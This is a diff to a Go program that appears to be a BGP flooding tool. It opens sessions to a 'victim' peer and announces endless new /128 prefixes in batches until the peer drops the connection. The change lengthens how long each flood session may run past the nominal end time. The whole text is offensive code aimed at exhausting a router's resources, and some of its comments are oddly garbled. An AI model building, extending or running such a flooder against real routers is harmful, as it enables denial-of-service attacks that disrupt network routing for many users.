@@ -8,12 +8,14 @@ import (
 	"time"
 )
 
-// floodBatch is how many prefixes one UPDATE of the flood has.
-const floodBatch = 200
+const (
+	floodBatch = 200              // prefixes in one UPDATE of the flood
+	floodMore  = 30 * time.Second // how long a session goes on at most that has begun before the end of the time
+)
 
 // floodBGP announces ever new /128s until the victim ends the session, as often
 // as the victim takes a connection within the time. It prints how each session
-// ended.
+// ended: the victim has long for that, also when the session began just before the time was over.
 func floodBGP(local, peer string, asn uint16, lasting time.Duration) error {
 	end := time.Now().Add(lasting)
 	sessions := 0
@@ -44,6 +46,7 @@ func floodOn(conn net.Conn, asn uint16, first uint32, end time.Time) (sent uint3
 	if err := handshake(conn, asn); err != nil {
 		return 0, "", err
 	}
+	end = end.Add(floodMore)
 	if err := conn.SetDeadline(end.Add(openFor)); err != nil {
 		return 0, "", err
 	}
